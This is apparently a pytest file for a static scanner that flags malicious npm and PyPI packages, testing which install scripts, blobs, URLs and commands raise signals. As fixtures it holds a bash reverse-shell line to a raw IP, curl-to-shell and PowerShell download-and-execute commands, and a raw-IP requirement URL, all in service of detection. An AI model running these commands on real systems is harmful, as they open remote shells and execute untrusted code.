"""Legitimate patterns that popular packages use must not raise strong static signals."""

from __future__ import annotations

import base64
import json

from analyzer.detect.static.scan import KINDS, FileRole, SignalKind, StaticSignal, scan_package
from analyzer.models import Ecosystem


def scan(files: dict[str, str], ecosystem: Ecosystem = Ecosystem.PYPI) -> list[StaticSignal]:
    return list(scan_package(((p, b.encode()) for p, b in files.items()), ecosystem))


def strong(signals: list[StaticSignal]) -> list[StaticSignal]:
    return [s for s in signals if KINDS[s.kind].strong]


def test_ordinary_setup_py_is_quiet() -> None:
    setup = """
import os, subprocess, sys
from setuptools import setup, Extension
from setuptools.command.build_ext import build_ext
from Cython.Build import cythonize

here = os.path.abspath(os.path.dirname(__file__))
about = {}
with open(os.path.join(here, "pkg", "__version__.py")) as f:
    exec(f.read(), about)
exec(open("pkg/_meta.py").read())
rev = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode()
flags = subprocess.check_output(["pkg-config", "--cflags", "libxml-2.0"])

class BuildExt(build_ext):
    def build_extensions(self):
        self.compiler.spawn(["cmake", ".."])
        build_ext.build_extensions(self)

setup(
    name="pkg",
    version=about["__version__"],
    url="https://github.com/example/pkg",
    cmdclass={"build_ext": BuildExt},
    ext_modules=cythonize([Extension("pkg._speedups", ["pkg/_speedups.pyx"])]),
)
"""
    assert scan({"pkg-1.0/setup.py": setup}) == []


def test_minified_bundle_is_only_weak() -> None:
    bundle = "!function(e,t){" + "var n=e.a(t);if(n){return n.b}" * 80 + "}(window);\n"
    signals = scan({"package/dist/bundle.min.js": bundle}, Ecosystem.NPM)
    assert [s.kind for s in signals] == [SignalKind.MINIFIED_CODE]


def test_embedded_images_fonts_and_source_maps_are_not_blobs() -> None:
    png = base64.b64encode(b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 2).decode()
    woff = base64.b64encode(b"wOF2" + bytes(range(256)) * 2).decode()
    source_map = base64.b64encode(json.dumps({"mappings": "A" * 400}).encode()).decode()
    files = {
        "package/lib/icons.js": f"module.exports = '{png}';\n",
        "package/lib/style.js": f"const font = 'url(data:font/woff2;base64,{woff})';\n",
        "package/lib/app.js": (
            f"x();\n//# sourceMappingURL=data:application/json;base64,{source_map}\n"
        ),
    }
    assert scan(files, Ecosystem.NPM) == []


def test_native_build_install_scripts_are_reported_with_their_command() -> None:
    manifest = {"name": "b", "scripts": {"install": "node-gyp-build", "test": "mocha"}}
    signals = scan({"package/package.json": json.dumps(manifest)}, Ecosystem.NPM)
    assert [(s.kind, s.detail) for s in signals] == [
        (SignalKind.NPM_INSTALL_SCRIPT_BUILD, "install: node-gyp-build")
    ]


def test_postinstall_js_is_an_install_file_and_its_command_is_kept() -> None:
    manifest = {"name": "c", "scripts": {"postinstall": "node -e \"require('./postinstall')\""}}
    files = {
        "package/package.json": json.dumps(manifest),
        "package/postinstall.js": "console.log('thank you for using this package');\n",
    }
    [signal] = scan(files, Ecosystem.NPM)
    assert signal.kind is SignalKind.NPM_INSTALL_SCRIPT
    assert signal.detail == "postinstall: node -e \"require('./postinstall')\""


def test_binding_gyp_means_an_implicit_node_gyp_build() -> None:
    files = {"package/package.json": '{"name": "d"}', "package/binding.gyp": "{}"}
    [signal] = scan(files, Ecosystem.NPM)
    assert signal.kind is SignalKind.NPM_INSTALL_SCRIPT_BUILD
    assert "implicit" in signal.detail


def test_urls_in_docs_metadata_tests_and_comments_are_not_destinations() -> None:
    urls = (
        "https://pastebin.com/raw/x https://abc.ngrok.io http://93.184.216.34/a https://c.oast.fun"
    )
    files = {
        "pkg-1.0/README.md": urls,
        "pkg-1.0/docs/conf.py": f"links = '{urls}'",
        "pkg-1.0/PKG-INFO": f"Description: {urls}",
        "pkg-1.0/pkg.egg-info/PKG-INFO": urls,
        "pkg-1.0/tests/test_urls.py": f"URLS = '{urls}'",
        "pkg-1.0/pkg/client.py": f"# examples: {urls}\nTIMEOUT = 3\n",
    }
    assert scan(files) == []


def test_requirement_files_are_read_for_destinations() -> None:
    files = {"pkg-1.0/requirements.txt": "evil @ http://93.184.216.34/evil-1.0.tar.gz\n"}
    [signal] = scan(files)
    assert (signal.kind, signal.role) == (SignalKind.RAW_IP_URL, FileRole.DATA)


def test_tests_keep_strong_signals_but_marked_and_skip_weak_ones() -> None:
    blob = base64.b64encode(bytes(range(256))).decode()
    test_file = f"key = '{blob}'\nos.system('bash -i >& /dev/tcp/93.184.216.34/9 0>&1')\n"
    signals = scan({"pkg-1.0/tests/test_shell.py": test_file})
    assert {(s.kind, s.role) for s in signals} == {(SignalKind.REVERSE_SHELL, FileRole.TEST)}


def test_developer_tools_that_read_config_are_not_stealers() -> None:
    code = (
        "cfg = os.path.expanduser('~/.ssh/config')\n"
        "session.headers['Cookies'] = 'x'\n"
        "env = {**os.environ, 'A': '1'}\n"
    )
    assert strong(scan({"pkg-1.0/pkg/conn.py": code})) == []


_INSTALLER_SH = (
    "#!/bin/sh\nset -eu\ncurl -LsSf https://astral.sh/uv/install.sh | sh\nuv tool install app\n"
)
_INSTALLER_PS1 = (
    "# Install: powershell -ExecutionPolicy ByPass -c \"irm https://example.org/i.ps1 | iex\"\n"
    "Invoke-RestMethod https://astral.sh/uv/install.ps1 | Invoke-Expression\n"
)


def test_a_projects_own_installer_scripts_beside_its_build_file_are_tooling() -> None:
    # pip installs the packages of an sdist, never the scripts at its top; a README that
    # tells a person to run them is no reference.
    files = {
        "app-1.0/pyproject.toml": "[project]\nname = 'app'\n",
        "app-1.0/README.md": "curl -LsSf https://example.org/install.sh | sh\n",
        "app-1.0/install.sh": _INSTALLER_SH,
        "app-1.0/install.ps1": _INSTALLER_PS1 + "# see install.sh for Unix\n",
        "app-1.0/app/__init__.py": "VERSION = '1.0'\n",
    }
    assert scan(files) == []


def test_a_top_level_script_that_code_or_a_build_file_names_is_still_read() -> None:
    by_setup = {
        "app-1.0/setup.py": "import os\nos.system('sh install.sh')\n",
        "app-1.0/install.sh": _INSTALLER_SH,
    }
    by_script = {  # named by a named script
        "package/package.json": json.dumps({"name": "app", "scripts": {"test": "sh run.sh"}}),
        "package/run.sh": "sh ./fetch.sh\n",
        "package/fetch.sh": _INSTALLER_SH,
    }
    assert {(s.path, s.kind) for s in scan(by_setup)} >= {
        ("app-1.0/install.sh", SignalKind.DOWNLOAD_EXEC)}
    assert ("package/fetch.sh", SignalKind.DOWNLOAD_EXEC) in {
        (s.path, s.kind) for s in scan(by_script, Ecosystem.NPM)}


def test_commented_out_powershell_is_no_powershell() -> None:
    ps1 = "# powershell -w hidden -c \"iwr https://example.org/x | iex\"\nWrite-Host done\n"
    assert scan({"pkg/tools/win.ps1": ps1}) == []
    live = scan({"pkg/tools/win.ps1": ps1.lstrip("# ")})
    assert [s.kind for s in live] == [SignalKind.POWERSHELL_SUSPICIOUS]


def test_an_autostart_command_in_a_catalogue_of_fixes_is_advice() -> None:
    # A remediation catalogue bundled as JavaScript that starts no process; the same line
    # handed to a shell, or a unit file written by path, is persistence.
    catalogue = ('export const FIXES = [{id: "ntp", command: '
                 '"sudo apt-get install -y chrony && sudo systemctl enable --now chrony"}];\n')
    run = "const cp = require('child_process');\n" + catalogue + "cp.execSync(FIXES[0].command);\n"
    assert scan({"package/fixes.mjs": catalogue}, Ecosystem.NPM) == []
    found = scan({"package/fixes.mjs": run}, Ecosystem.NPM)
    assert SignalKind.PERSISTENCE in {s.kind for s in found}
